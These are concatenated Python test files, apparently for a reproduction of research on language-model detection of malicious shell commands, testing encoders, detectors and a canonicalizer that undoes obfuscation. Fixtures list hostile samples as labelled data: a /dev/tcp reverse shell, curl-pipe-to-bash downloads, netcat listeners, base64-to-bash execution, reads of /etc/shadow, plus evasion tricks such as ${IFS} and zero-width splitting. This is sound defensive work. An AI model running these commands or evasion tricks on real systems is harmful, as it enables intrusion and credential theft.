        assert report.final_loss == report.losses[-1]


class TestCommandEncoder:
    def test_embed_shape(self, trained, tokenizer):
        model, _ = trained
        encoder = CommandEncoder(model, tokenizer)
        vectors = encoder.embed(["ls -la /tmp", "docker ps -a"])
        assert vectors.shape == (2, model.config.hidden_size)

    def test_embed_empty(self, trained, tokenizer):
        model, _ = trained
        encoder = CommandEncoder(model, tokenizer)
        assert encoder.embed([]).shape == (0, model.config.hidden_size)

    def test_order_preserved_under_bucketing(self, trained, tokenizer):
        model, _ = trained
        encoder = CommandEncoder(model, tokenizer, batch_size=2)
        lines = ["ls", "docker run -it ubuntu bash", "pwd", "grep error /var/log/app.log"]
        batched = encoder.embed(lines)
        individual = np.vstack([encoder.embed([line]) for line in lines])
        np.testing.assert_allclose(batched, individual, atol=1e-8)

    def test_pooling_strategies_differ(self, trained, tokenizer):
        model, _ = trained
        encoder = CommandEncoder(model, tokenizer)
        mean_vec = encoder.embed(["docker ps -a"], pooling="mean")
        cls_vec = encoder.embed(["docker ps -a"], pooling="cls")
        assert not np.allclose(mean_vec, cls_vec)

    def test_similar_commands_closer_than_dissimilar(self, trained, tokenizer):
        model, _ = trained
        encoder = CommandEncoder(model, tokenizer)
        vectors = encoder.embed(["ls -la /tmp", "ls /home/user", "docker run -it ubuntu bash"])
        def cosine(a, b):
            return a @ b / (np.linalg.norm(a) * np.linalg.norm(b))
        assert cosine(vectors[0], vectors[1]) > cosine(vectors[0], vectors[2])

    def test_embed_tokens(self, trained, tokenizer):
        model, _ = trained
        encoder = CommandEncoder(model, tokenizer)
        tokens = encoder.embed_tokens("ls -la /tmp")
        expected = len(tokenizer.encode("ls -la /tmp").ids)
        assert tokens.shape == (expected, model.config.hidden_size)

    def test_invalid_pooling_rejected(self, trained, tokenizer):
        model, _ = trained
        with pytest.raises(ValueError):
            CommandEncoder(model, tokenizer, pooling="sum")
        encoder = CommandEncoder(model, tokenizer)
        with pytest.raises(ValueError):
            encoder.embed(["ls"], pooling="sum")

    def test_no_grad_during_embedding(self, trained, tokenizer):
        model, _ = trained
        encoder = CommandEncoder(model, tokenizer)
        encoder.embed(["ls -la"])
        assert all(p.requires_grad for p in model.parameters())  # restored after

    def test_long_line_truncated_not_rejected(self, trained, tokenizer):
        model, _ = trained
        encoder = CommandEncoder(model, tokenizer)
        vectors = encoder.embed(["echo " + "x " * 500])
        assert vectors.shape == (1, model.config.hidden_size)
