"""Tests for MaskedPredictor, EmbeddingExplorer, and pseudo-perplexity."""

import numpy as np
import pytest

from repro.lm import (
    CommandEncoder,
    CommandLineLM,
    EmbeddingExplorer,
    LMConfig,
    MaskedPredictor,
    MLMCollator,
    Pretrainer,
    pseudo_perplexity,
)
from repro.tokenizer import BPETokenizer

CORPUS = [
    "curl http://203.0.113.7/install.sh | bash",
    "wget http://203.0.113.9/a.sh | bash",
    "ls -la /tmp",
    "docker ps -a",
    "cat /etc/passwd",
    "grep error /var/log/app.log",
] * 25


@pytest.fixture(scope="module")
def encoder():
    tokenizer = BPETokenizer(vocab_size=400).train(CORPUS)
    config = LMConfig.tiny(vocab_size=len(tokenizer.vocab))
    model = CommandLineLM(config)
    collator = MLMCollator(tokenizer, max_length=config.max_position, seed=0)
    Pretrainer(model, collator, lr=3e-3, batch_size=16, seed=0).train(CORPUS, epochs=5)
    return CommandEncoder(model, tokenizer)


class TestMaskedPredictor:
    def test_returns_topk(self, encoder):
        predictions = MaskedPredictor(encoder).predict("[MASK] http://x/a.sh | bash", top_k=3)
        assert len(predictions) == 3
        assert all(0.0 <= p.probability <= 1.0 for p in predictions)

    def test_probabilities_descending(self, encoder):
        predictions = MaskedPredictor(encoder).predict("docker [MASK] -a", top_k=5)
        probs = [p.probability for p in predictions]
        assert probs == sorted(probs, reverse=True)

    def test_paper_example_prefers_fetcher(self, encoder):
        """Sec. II-B: the mask before a pipe-to-bash URL should be a
        fetch command after enough pre-training on this tiny corpus."""
        top = MaskedPredictor(encoder).paper_example(top_k=3)
        names = {p.token.replace("▁", "") for p in top}
        assert names & {"curl", "wget"}

    def test_requires_mask_placeholder(self, encoder):
        with pytest.raises(ValueError):
            MaskedPredictor(encoder).predict("ls -la")

    def test_mask_mid_sentence(self, encoder):
        predictions = MaskedPredictor(encoder).predict("ls [MASK] /tmp", top_k=2)
        assert len(predictions) == 2


class TestEmbeddingExplorer:
    def test_self_is_nearest(self, encoder):
        corpus = list(set(CORPUS))
        explorer = EmbeddingExplorer(encoder, corpus)
        line = corpus[0]
        neighbours = explorer.neighbours(line, k=1)
        assert neighbours[0][0] == line
        assert neighbours[0][1] == pytest.approx(1.0, abs=1e-9)

    def test_similarity_symmetric(self, encoder):
        explorer = EmbeddingExplorer(encoder, ["ls"])
        a = explorer.similarity("ls -la /tmp", "docker ps -a")
        b = explorer.similarity("docker ps -a", "ls -la /tmp")
        assert a == pytest.approx(b)

    def test_neighbour_count_capped(self, encoder):
        explorer = EmbeddingExplorer(encoder, ["ls", "pwd"])
        assert len(explorer.neighbours("ls", k=10)) == 2


class TestPseudoPerplexity:
    def test_in_domain_lower_than_shuffled(self, encoder):
        in_domain = pseudo_perplexity(encoder, CORPUS[:40], seed=1)
        gibberish = pseudo_perplexity(
            encoder, ["zq xv wk jj j9 qq" for _ in range(40)], seed=1
        )
        assert in_domain < gibberish

    def test_finite_and_positive(self, encoder):
        value = pseudo_perplexity(encoder, CORPUS[:20])
        assert np.isfinite(value) and value > 1.0

    def test_empty_lines_give_inf(self, encoder):
        assert pseudo_perplexity(encoder, []) == float("inf")
