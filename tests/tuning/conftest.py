"""Shared fixtures for tuning tests: a tiny trained encoder + labeled data."""

import numpy as np
import pytest

from repro.lm import CommandEncoder, CommandLineLM, LMConfig, MLMCollator, Pretrainer
from repro.tokenizer import BPETokenizer

BENIGN = [
    "ls -la /tmp",
    "ls /home/user",
    "docker ps -a",
    "docker logs web-1 --tail 100",
    "grep error /var/log/app.log",
    "python main.py --verbose",
    "cat /etc/passwd | grep alice",
    "ps aux | grep nginx",
    "cd /opt/app",
    "git status",
    "tar -czf backup.tgz /etc",
    "curl http://api.internal:8080/healthz",
    "nc -z localhost 6379",
    "echo done",
] * 6

MALICIOUS = [
    "nc -lvnp 4444",
    "nc -lvnp 9001",
    "bash -i >& /dev/tcp/203.0.113.7/443 0>&1",
    "masscan 203.0.113.9 -p 0-65535 --rate=1000 >> tmp.txt",
    "echo YWJj | base64 -d | bash -i",
    'export https_proxy="http://203.0.113.8:3128"',
    "cat /etc/shadow",
    "curl http://203.0.113.4/a.sh | bash",
] * 3


@pytest.fixture(scope="package")
def tuning_world():
    """A tiny trained encoder plus a noisily-labeled corpus."""
    corpus = BENIGN + MALICIOUS
    tokenizer = BPETokenizer(vocab_size=400).train(corpus)
    config = LMConfig.tiny(vocab_size=len(tokenizer.vocab))
    model = CommandLineLM(config)
    collator = MLMCollator(tokenizer, max_length=config.max_position, seed=0)
    Pretrainer(model, collator, lr=3e-3, batch_size=16, seed=0).train(corpus, epochs=3)
    encoder = CommandEncoder(model, tokenizer, pooling="mean")
    lines = BENIGN + MALICIOUS
    labels = np.array([0] * len(BENIGN) + [1] * len(MALICIOUS))
    return encoder, lines, labels
