"""Tests for the four Section-IV adaptation methods."""

from datetime import datetime, timedelta

import numpy as np
import pytest

from repro.errors import NotFittedError
from repro.loggen import CommandDataset, LogRecord
from repro.tuning import (
    ClassificationTuner,
    LabeledDataset,
    MajorityVoteKNN,
    MultiLineClassificationTuner,
    MultiLineComposer,
    ReconstructionTuner,
    RetrievalDetector,
    ScoreEnsemble,
    label_with_ids,
    rank_normalize,
)
from repro.ids import CommercialIDS

UNSEEN_MALICIOUS = ["nc -lvnp 31337", "cat /etc/shadow", "echo ZXZpbA== | base64 -d | bash -i"]
UNSEEN_BENIGN = ["ls -la /opt", "docker ps", "git status"]


class TestLabeledDataset:
    def test_validates_alignment(self):
        with pytest.raises(Exception):
            LabeledDataset(["a"], np.array([0, 1]))

    def test_validates_binary(self):
        with pytest.raises(Exception):
            LabeledDataset(["a"], np.array([2]))

    def test_positives_subset(self):
        data = LabeledDataset(["a", "b", "c"], np.array([0, 1, 1]))
        assert data.positives().lines == ["b", "c"]
        assert data.n_positive == 2

    def test_subsample_keeps_positives(self):
        lines = [f"benign-{i}" for i in range(100)] + ["evil"]
        labels = np.array([0] * 100 + [1])
        data = LabeledDataset(lines, labels)
        sub = data.subsample(10, np.random.default_rng(0))
        assert "evil" in sub.lines
        assert len(sub) == 10

    def test_subsample_noop_when_large_enough(self):
        data = LabeledDataset(["a", "b"], np.array([0, 1]))
        assert data.subsample(10, np.random.default_rng(0)) is data

    def test_label_with_ids(self):
        ids = CommercialIDS(label_noise=0.0)
        data = label_with_ids(["ls", "cat /etc/shadow"], ids)
        np.testing.assert_array_equal(data.labels, [0, 1])


class TestClassificationTuner:
    def test_separates_unseen_attacks(self, tuning_world):
        encoder, lines, labels = tuning_world
        tuner = ClassificationTuner(encoder, lr=1e-2, epochs=8, pooling="mean", seed=0)
        tuner.fit(lines, labels)
        mal = tuner.score(UNSEEN_MALICIOUS)
        ben = tuner.score(UNSEEN_BENIGN)
        assert mal.mean() > ben.mean() + 0.3

    def test_scores_are_probabilities(self, tuning_world):
        encoder, lines, labels = tuning_world
        tuner = ClassificationTuner(encoder, lr=1e-2, epochs=3, pooling="mean", seed=0)
        tuner.fit(lines, labels)
        scores = tuner.score(UNSEEN_BENIGN + UNSEEN_MALICIOUS)
        assert (scores >= 0).all() and (scores <= 1).all()

    def test_loss_history_decreases(self, tuning_world):
        encoder, lines, labels = tuning_world
        tuner = ClassificationTuner(encoder, lr=1e-2, epochs=8, pooling="mean", seed=0)
        tuner.fit(lines, labels)
        assert tuner.history[-1] < tuner.history[0]

    def test_requires_positive_labels(self, tuning_world):
        encoder, lines, _ = tuning_world
        tuner = ClassificationTuner(encoder)
        with pytest.raises(ValueError):
            tuner.fit(lines[:10], np.zeros(10, dtype=int))

    def test_unfitted_raises(self, tuning_world):
        encoder, _, _ = tuning_world
        with pytest.raises(NotFittedError):
            ClassificationTuner(encoder).score(["ls"])

    def test_predict_thresholding(self, tuning_world):
        encoder, lines, labels = tuning_world
        tuner = ClassificationTuner(encoder, lr=1e-2, epochs=5, pooling="mean", seed=0)
        tuner.fit(lines, labels)
        decisions = tuner.predict(UNSEEN_MALICIOUS + UNSEEN_BENIGN)
        assert set(decisions) <= {0, 1}

    def test_deterministic_given_seed(self, tuning_world):
        encoder, lines, labels = tuning_world
        a = ClassificationTuner(encoder, lr=1e-2, epochs=2, pooling="mean", seed=3).fit(lines, labels)
        b = ClassificationTuner(encoder, lr=1e-2, epochs=2, pooling="mean", seed=3).fit(lines, labels)
        np.testing.assert_allclose(a.score(UNSEEN_BENIGN), b.score(UNSEEN_BENIGN))

    def test_epochs_validation(self, tuning_world):
        encoder, _, _ = tuning_world
        with pytest.raises(ValueError):
            ClassificationTuner(encoder, epochs=0)


class TestRetrieval:
    def test_identical_line_scores_near_one(self, tuning_world):
        encoder, lines, labels = tuning_world
        detector = RetrievalDetector(encoder, k=1).fit(lines, labels)
        assert detector.score(["nc -lvnp 4444"])[0] > 0.99

    def test_known_attack_outscores_benign(self, tuning_world):
        encoder, lines, labels = tuning_world
        detector = RetrievalDetector(encoder, k=1).fit(lines, labels)
        attack_score = detector.score(["nc -lvnp 4444"])[0]
        assert (detector.score(UNSEEN_BENIGN) < attack_score).all()

    def test_needs_malicious_training_lines(self, tuning_world):
        encoder, lines, _ = tuning_world
        with pytest.raises(ValueError):
            RetrievalDetector(encoder).fit(lines[:5], np.zeros(5, dtype=int))

    def test_chunking_consistent(self, tuning_world):
        encoder, lines, labels = tuning_world
        small = RetrievalDetector(encoder, k=2, chunk_size=2).fit(lines, labels)
        large = RetrievalDetector(encoder, k=2, chunk_size=4096).fit(lines, labels)
        queries = UNSEEN_MALICIOUS + UNSEEN_BENIGN
        np.testing.assert_allclose(small.score(queries), large.score(queries))

    def test_k_validation(self, tuning_world):
        encoder, _, _ = tuning_world
        with pytest.raises(ValueError):
            RetrievalDetector(encoder, k=0)


class TestMajorityVoteKNN:
    def test_label_noise_hurts_vanilla_more(self, tuning_world):
        """The Sec. IV-D story: flip some malicious labels to benign; the
        majority-vote method loses detections, the modified one does not."""
        encoder, lines, labels = tuning_world
        noisy = labels.copy()
        malicious_idx = np.nonzero(noisy == 1)[0]
        noisy[malicious_idx[::2]] = 0  # 50% of malicious labels dropped
        vanilla = MajorityVoteKNN(encoder, k=5).fit(lines, noisy)
        modified = RetrievalDetector(encoder, k=1).fit(lines, noisy)
        target = ["nc -lvnp 4444"]
        assert modified.score(target)[0] > 0.9
        # vanilla zeroes out when benign-labeled duplicates win the vote
        assert vanilla.score(target)[0] < modified.score(target)[0]

    def test_benign_majority_scores_zero(self, tuning_world):
        encoder, lines, labels = tuning_world
        detector = MajorityVoteKNN(encoder, k=5).fit(lines, labels)
        assert detector.score(["ls -la /tmp"])[0] == 0.0


class TestReconstructionTuner:
    def test_raises_labeled_intrusion_scores(self, tuning_world):
        encoder, lines, labels = tuning_world
        tuner = ReconstructionTuner(encoder, n_rounds=2, steps_per_round=10, seed=0)
        tuner.fit(lines, labels)
        mal = tuner.score(UNSEEN_MALICIOUS)
        ben = tuner.score(UNSEEN_BENIGN)
        assert np.median(mal) > np.median(ben)

    def test_backbone_clone_keeps_shared_model_intact(self, tuning_world):
        encoder, lines, labels = tuning_world
        before = encoder.embed(["ls -la /tmp"])
        tuner = ReconstructionTuner(encoder, n_rounds=1, steps_per_round=5, seed=0)
        tuner.fit(lines, labels)
        after = encoder.embed(["ls -la /tmp"])
        np.testing.assert_array_equal(before, after)

    def test_requires_positive_labels(self, tuning_world):
        encoder, lines, _ = tuning_world
        tuner = ReconstructionTuner(encoder, n_rounds=1, steps_per_round=2)
        with pytest.raises(ValueError):
            tuner.fit(lines[:5], np.zeros(5, dtype=int))

    def test_parameter_validation(self, tuning_world):
        encoder, _, _ = tuning_world
        with pytest.raises(ValueError):
            ReconstructionTuner(encoder, n_rounds=0)
        with pytest.raises(ValueError):
            ReconstructionTuner(encoder, positives_per_batch=24, batch_size=24)

    def test_unfitted_raises(self, tuning_world):
        encoder, _, _ = tuning_world
        with pytest.raises(NotFittedError):
            ReconstructionTuner(encoder).score(["ls"])


class TestMultiLine:
    def _dataset(self):
        start = datetime(2022, 5, 29, 12, 0, 0)
        rows = [
            ("u1", "wget -c http://203.0.113.4/payload -o python", True),
            ("u1", "python", True),
            ("u2", "ls -la", False),
            ("u1", "echo done", False),
            ("u2", "git status", False),
        ]
        records = [
            LogRecord(line, user, "m1", start + timedelta(seconds=30 * i), session="s1",
                      is_malicious=mal)
            for i, (user, line, mal) in enumerate(rows)
        ]
        return CommandDataset(records)

    def test_composition_uses_same_user_history(self):
        composer = MultiLineComposer(window=3)
        samples = composer.compose(self._dataset())
        assert samples[1].text == "wget -c http://203.0.113.4/payload -o python ; python"
        assert samples[2].text == "ls -la"  # u2 has no history
        assert samples[3].n_context == 2

    def test_max_gap_expires_history(self):
        composer = MultiLineComposer(window=3, max_gap=timedelta(seconds=10))
        samples = composer.compose(self._dataset())
        assert samples[1].n_context == 0  # 30s gap > 10s window

    def test_window_one_is_single_line(self):
        composer = MultiLineComposer(window=1)
        samples = composer.compose(self._dataset())
        assert all(s.n_context == 0 for s in samples)

    def test_window_validation(self):
        with pytest.raises(ValueError):
            MultiLineComposer(window=0)

    def test_fit_and_score_dataset(self, tuning_world):
        encoder, _, _ = tuning_world
        dataset = self._dataset()
        labels = dataset.labels()
        tuner = MultiLineClassificationTuner(encoder, lr=1e-2, epochs=4, pooling="mean", seed=0)
        tuner.fit_dataset(dataset, labels)
        scores = tuner.score_dataset(dataset)
        assert scores.shape == (len(dataset),)

    def test_label_alignment_validated(self, tuning_world):
        encoder, _, _ = tuning_world
        tuner = MultiLineClassificationTuner(encoder)
        with pytest.raises(ValueError):
            tuner.fit_dataset(self._dataset(), np.array([1, 0]))


class TestEnsemble:
    def test_rank_normalize_monotone(self):
        scores = np.array([0.1, 5.0, 2.0])
        normalized = rank_normalize(scores)
        assert normalized[1] > normalized[2] > normalized[0]
        assert (normalized > 0).all() and (normalized <= 1).all()

    def test_rank_normalize_ties_share_rank(self):
        normalized = rank_normalize(np.array([1.0, 1.0, 2.0]))
        assert normalized[0] == normalized[1]

    def test_rank_normalize_empty(self):
        assert rank_normalize(np.array([])).size == 0

    def test_ensemble_combines_fitted_members(self, tuning_world):
        encoder, lines, labels = tuning_world
        clf = ClassificationTuner(encoder, lr=1e-2, epochs=4, pooling="mean", seed=0).fit(lines, labels)
        ret = RetrievalDetector(encoder, k=1).fit(lines, labels)
        ensemble = ScoreEnsemble([clf, ret])
        scores = ensemble.score(UNSEEN_MALICIOUS + UNSEEN_BENIGN)
        assert scores[:3].mean() > scores[3:].mean()

    def test_max_aggregation(self, tuning_world):
        encoder, lines, labels = tuning_world
        ret = RetrievalDetector(encoder, k=1).fit(lines, labels)
        ensemble = ScoreEnsemble([ret], aggregation="max")
        assert ensemble.score(["nc -lvnp 4444"])[0] > 0.9

    def test_validation(self):
        with pytest.raises(ValueError):
            ScoreEnsemble([])
        with pytest.raises(ValueError):
            ScoreEnsemble([object()], aggregation="median")  # type: ignore[list-item]
