"""Unit tests for pre-processing filters and the pipeline."""

import pytest

from repro.preprocess import (
    CommandFrequencyTable,
    ConcernedCommandFilter,
    Normalizer,
    ParserFilter,
    PreprocessingPipeline,
    deduplicate,
    duplicate_indices,
    normalize_command_line,
    unique_fraction,
)


class TestNormalizer:
    def test_collapses_whitespace(self):
        assert normalize_command_line("ls   -la\t/tmp") == "ls -la /tmp"

    def test_strips_control_chars(self):
        assert normalize_command_line("ls\x07 -la") == "ls -la"

    def test_strips_ends(self):
        assert normalize_command_line("  ls  ") == "ls"

    def test_truncates(self):
        normalizer = Normalizer(max_length=5)
        assert normalizer("abcdefghij") == "abcde"

    def test_preserve_whitespace_option(self):
        normalizer = Normalizer(collapse_whitespace=False)
        assert normalizer("a  b") == "a  b"

    def test_invalid_max_length(self):
        with pytest.raises(ValueError):
            Normalizer(max_length=0)

    def test_embedded_newlines_fold_into_whitespace(self):
        # regression: a multi-line payload smuggled into one log record
        # used to keep its newlines (the control strip skipped \n), so
        # "downstream one line per record" consumers saw two commands
        assert normalize_command_line("echo a\nrm -rf /tmp/x") == "echo a rm -rf /tmp/x"

    def test_crlf_remnants_fold_into_whitespace(self):
        assert normalize_command_line("echo a\r\n  echo b\r") == "echo a echo b"

    def test_newline_without_collapse_still_removed(self):
        normalizer = Normalizer(collapse_whitespace=False)
        assert normalizer("echo a\necho b") == "echo a echo b"

    def test_strips_unicode_format_controls(self):
        # regression: zero-width characters split the command name for
        # string matchers while the shell (after copy-paste laundering)
        # still runs the obvious thing
        obfuscated = "ca​t /etc/sh‌adow"
        assert normalize_command_line(obfuscated) == "cat /etc/shadow"

    def test_strips_bom_and_word_joiner(self):
        assert normalize_command_line("﻿cat ⁠/etc/shadow") == "cat /etc/shadow"

    def test_non_ascii_cc_controls_become_spaces(self):
        # U+0085 NEL is a Cc control the old ASCII-only strip missed
        assert normalize_command_line("echo aecho b") == "echo a echo b"

    def test_plain_unicode_text_is_preserved(self):
        assert normalize_command_line("echo héllo wörld") == "echo héllo wörld"


class TestParserFilter:
    def test_keeps_valid(self):
        assert ParserFilter().filter(["ls -la", "pwd"]) == ["ls -la", "pwd"]

    def test_drops_invalid(self):
        kept = ParserFilter().filter(["ls -la", "ls |", "/a -> /b ->", "echo 'x"])
        assert kept == ["ls -la"]

    def test_accepts_single(self):
        parser_filter = ParserFilter()
        assert parser_filter.accepts("ls")
        assert not parser_filter.accepts("(")


class TestFrequencyTable:
    def test_counts_primary_names(self):
        table = CommandFrequencyTable()
        table.update(["ls -la", "ls /tmp", "docker ps"])
        assert table.count("ls") == 2
        assert table.count("docker") == 1

    def test_most_common_order(self):
        table = CommandFrequencyTable()
        table.update(["ls", "ls", "cat"])
        assert table.most_common()[0] == ("ls", 2)

    def test_names_above(self):
        table = CommandFrequencyTable()
        table.update(["ls", "ls", "dcoker ps"])
        assert table.names_above(2) == frozenset({"ls"})

    def test_names_above_fraction(self):
        table = CommandFrequencyTable()
        table.update(["ls"] * 9 + ["rare"])
        assert "ls" in table.names_above_fraction(0.5)
        assert "rare" not in table.names_above_fraction(0.5)

    def test_fraction_validation(self):
        with pytest.raises(ValueError):
            CommandFrequencyTable().names_above_fraction(1.5)

    def test_skips_unparseable(self):
        table = CommandFrequencyTable()
        table.update(["ls |", "ls"])
        assert table.count("ls") == 1


class TestConcernedCommandFilter:
    def test_explicit_allowlist(self):
        command_filter = ConcernedCommandFilter(allowed=["ls", "cat"])
        assert command_filter.accepts("ls -la")
        assert not command_filter.accepts("dcoker ps")

    def test_frequency_derived(self):
        table = CommandFrequencyTable()
        table.update(["docker ps"] * 5 + ["dcoker ps"])
        command_filter = ConcernedCommandFilter(frequency_table=table, min_count=2)
        assert command_filter.accepts("docker ps")
        assert not command_filter.accepts("dcoker attach --sig-proxy=false c1")

    def test_assignment_only_lines_kept(self):
        command_filter = ConcernedCommandFilter(allowed=["ls"])
        assert command_filter.accepts("https_proxy=http://proxy:3128")

    def test_requires_a_source(self):
        with pytest.raises(ValueError):
            ConcernedCommandFilter()


class TestDedup:
    def test_order_preserving(self):
        assert deduplicate([3, 1, 3, 2, 1]) == [3, 1, 2]

    def test_key_function(self):
        assert deduplicate(["a", "A", "b"], key=str.lower) == ["a", "b"]

    def test_duplicate_indices(self):
        assert duplicate_indices(["x", "y", "x", "x"]) == [2, 3]

    def test_unique_fraction(self):
        assert unique_fraction(["a", "a", "b", "c"]) == 0.75

    def test_unique_fraction_empty(self):
        assert unique_fraction([]) == 1.0


class TestPipeline:
    def test_fit_transform_drops_noise(self):
        lines = ["ls -l", "ls /x", "ls |", "dcoker ps", "ls /y", "docker ps", "docker run x"]
        pipeline = PreprocessingPipeline(min_command_count=2)
        kept, stats = pipeline.fit_transform(lines)
        assert "ls |" not in kept
        assert "dcoker ps" not in kept
        assert stats.total == len(lines)
        assert stats.parse_failures == 1
        assert stats.kept == len(kept)

    def test_paper_figure2_examples(self):
        lines = [
            'php -r "phpinfo();"',
            "python main.py",
            "vim ~/.bashrc",
            "curl https://x/a.sh | bash",
            'df -h | grep "/dev"',
            "dcoker attach --sig-proxy=false c1",
            "chdmod +x install.sh",
            "/a/b/c -> /d/e/f ->",
        ] + ["php -v", "python x.py", "vim y", "curl http://z", "df -h"] * 2
        pipeline = PreprocessingPipeline(min_command_count=2)
        kept, stats = pipeline.fit_transform(lines)
        assert "/a/b/c -> /d/e/f ->" not in kept  # parser filter
        assert "dcoker attach --sig-proxy=false c1" not in kept  # frequency filter
        assert "chdmod +x install.sh" not in kept
        assert 'php -r "phpinfo();"' in kept

    def test_explicit_allowlist_mode(self):
        pipeline = PreprocessingPipeline(allowed_commands=["ls"])
        kept, _ = pipeline.transform(["ls -l", "cat x"])
        assert kept == ["ls -l"]

    def test_transform_before_fit_raises(self):
        with pytest.raises(RuntimeError):
            PreprocessingPipeline().transform(["ls"])

    def test_concerned_commands_property(self):
        pipeline = PreprocessingPipeline(min_command_count=1).fit(["ls", "cat x"])
        assert {"ls", "cat"} <= set(pipeline.concerned_commands)

    def test_occurrence_table_in_stats(self):
        pipeline = PreprocessingPipeline(min_command_count=1)
        _, stats = pipeline.fit_transform(["ls"] * 3 + ["cat x"])
        assert stats.occurrence_table[0][0] == "ls"

    def test_stats_removed_property(self):
        pipeline = PreprocessingPipeline(min_command_count=1)
        _, stats = pipeline.fit_transform(["ls", "", "ls |"])
        assert stats.removed == stats.empty_after_normalize + stats.parse_failures

    def test_invalid_min_count(self):
        with pytest.raises(ValueError):
            PreprocessingPipeline(min_command_count=0)
