"""Unit and property tests for the AST-backed canonicalization stage."""

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.loggen import ATTACK_FAMILIES, AttackSampler, EvasionMutator
from repro.preprocess import CanonicalizeResult, Canonicalizer, canonicalize_command_line
from repro.shell import parse
from repro.shell.unparse import unparse_list

canon = canonicalize_command_line


class TestDequote:
    def test_decorative_quotes_removed(self):
        assert canon("ca't' /etc/sh\"ad\"ow") == "cat /etc/shadow"

    def test_whole_word_quotes_removed(self):
        assert canon("'cat' \"passwd\"") == "cat passwd"

    def test_needed_quotes_rendered_single(self):
        assert canon('echo "a b"') == "echo 'a b'"

    def test_double_quoted_expansion_untouched(self):
        # the lexer folds "$HOME" into literal body text; the rewriter
        # detects the hidden dollar and must keep the word verbatim
        assert canon('echo "$HOME"') == 'echo "$HOME"'

    def test_backticks_untouched(self):
        assert canon("echo `id`") == "echo `id`"

    def test_command_substitution_untouched(self):
        assert canon("echo $(id)") == "echo $(id)"

    def test_escaped_space_dequoted(self):
        assert canon("cat /tmp/a\\ b") == "cat '/tmp/a b'"


class TestIfsSplitting:
    def test_braced_ifs_becomes_space(self):
        assert canon("cat${IFS}/etc/shadow") == "cat /etc/shadow"

    def test_bare_ifs_becomes_space(self):
        assert canon("cat$IFS/etc/shadow") == "cat /etc/shadow"

    def test_multiple_ifs_segments(self):
        assert canon("nc${IFS}-e${IFS}/bin/sh") == "nc -e /bin/sh"

    def test_empty_default_expansion_resolved(self):
        assert canon("cat ${x_:-}/etc/shadow") == "cat /etc/shadow"

    def test_nonempty_default_untouched(self):
        assert canon("cat ${x:-/etc}/shadow") == "cat ${x:-/etc}/shadow"


class TestWrappers:
    def test_env_stripped(self):
        assert canon("env cat /etc/shadow") == "cat /etc/shadow"

    def test_env_assignments_become_prefix(self):
        assert canon("env LC_ALL=C grep root /etc/shadow") == "LC_ALL=C grep root /etc/shadow"

    def test_env_with_flags_kept(self):
        # `env -i cmd` changes the environment — not a no-op wrapper
        assert canon("env -i cat x") == "env -i cat x"

    def test_command_stripped(self):
        assert canon("command cat /etc/shadow") == "cat /etc/shadow"

    def test_eval_spliced(self):
        assert canon("eval 'cat /etc/shadow'") == "cat /etc/shadow"

    def test_eval_multi_command_payload(self):
        assert canon("eval 'echo hi; cat /etc/shadow'") == "echo hi ; cat /etc/shadow"

    def test_eval_with_expansion_kept(self):
        assert canon("eval \"$cmd\"") == "eval \"$cmd\""

    def test_stacked_wrappers(self):
        assert canon("env command cat x") == "cat x"


class TestPathStripping:
    def test_usr_bin_stripped(self):
        assert canon("/usr/bin/cat /etc/shadow") == "cat /etc/shadow"

    def test_bin_stripped(self):
        assert canon("/bin/sh -c ls") == "sh -c ls"

    def test_nonstandard_path_kept(self):
        assert canon("/tmp/.hidden/cat x") == "/tmp/.hidden/cat x"

    def test_nested_under_standard_dir_kept(self):
        assert canon("/usr/bin/x86_64/cat x") == "/usr/bin/x86_64/cat x"


class TestFlagOrdering:
    def test_trailing_run_fully_sorted(self):
        assert canon("ls -l -a") == "ls -a -l"

    def test_value_binding_flag_stays_anchored(self):
        # -f may bind out.tar; it must not be sorted away from it
        assert canon("tar -z -x -f out.tar") == "tar -x -z -f out.tar"

    def test_single_flag_unchanged(self):
        assert canon("grep -r pattern .") == "grep -r pattern ."

    def test_non_flag_words_keep_positions(self):
        assert canon("cp -v -f a b") == "cp -v -f a b"


class TestDecodeExec:
    B64 = "Y2F0IC9ldGMvc2hhZG93"  # cat /etc/shadow

    def test_echo_base64_sh_flattened(self):
        result = Canonicalizer().canonicalize(f"echo {self.B64} | base64 -d | sh")
        assert result.text == "cat /etc/shadow"
        assert result.decoded

    def test_printf_variant(self):
        assert canon(f"printf %s {self.B64} | base64 --decode | sh") == "cat /etc/shadow"

    def test_openssl_variant(self):
        assert canon(f"echo {self.B64} | openssl enc -base64 -d | sh") == "cat /etc/shadow"

    def test_decoded_payload_is_canonicalized(self):
        payload = "ZW52IGNhdCAvZXRjL3NoYWRvdw=="  # env cat /etc/shadow
        assert canon(f"echo {payload} | base64 -d | bash") == "cat /etc/shadow"

    def test_multiline_payload_joined(self):
        payload = "ZWNobyBhCmVjaG8gYg=="  # echo a\necho b
        assert canon(f"echo {payload} | base64 -d | sh") == "echo a ; echo b"

    def test_non_base64_payload_kept(self):
        line = "echo not!!base64 | base64 -d | sh"
        result = Canonicalizer().canonicalize(line)
        assert not result.decoded
        assert "base64 -d" in result.text

    def test_decode_disabled(self):
        line = f"echo {self.B64} | base64 -d | sh"
        result = Canonicalizer(decode_base64=False).canonicalize(line)
        assert not result.decoded
        assert "base64 -d" in result.text

    def test_plain_base64_pipeline_not_flattened(self):
        # decoding to a file (no trailing shell) is not decode-exec
        line = f"echo {self.B64} | base64 -d"
        assert "base64 -d" in canon(line)

    def test_decoded_form_matches_plain_sibling(self):
        plain = Canonicalizer().canonicalize("cat /etc/shadow")
        hidden = Canonicalizer().canonicalize(f"echo {self.B64} | base64 -d | sh")
        assert hidden.text == plain.text
        assert not plain.decoded and hidden.decoded


class TestFallback:
    def test_unparseable_falls_back_unchanged(self):
        line = "echo 'unterminated"
        result = Canonicalizer().canonicalize(line)
        assert result == CanonicalizeResult(
            text=line, ok=False, changed=False, reason="parse_error"
        )

    def test_truncation_classified(self):
        # a quoted word cut mid-string by the upstream max_length cap
        line = "echo 'a very long quoted payload that got c"
        result = Canonicalizer(truncation_length=len(line)).canonicalize(line)
        assert not result.ok
        assert result.reason == "truncated"

    def test_short_garbage_is_parse_error(self):
        result = Canonicalizer(truncation_length=4096).canonicalize("echo 'oops")
        assert not result.ok
        assert result.reason == "parse_error"

    def test_empty_line_passthrough(self):
        result = Canonicalizer().canonicalize("")
        assert result.ok and not result.changed and result.text == ""

    def test_never_raises_on_junk(self):
        for junk in ("((", "a |", ">", "'", '"', "x && "):
            result = Canonicalizer().canonicalize(junk)
            assert result.text == junk
            assert not result.ok


class TestConfigValidation:
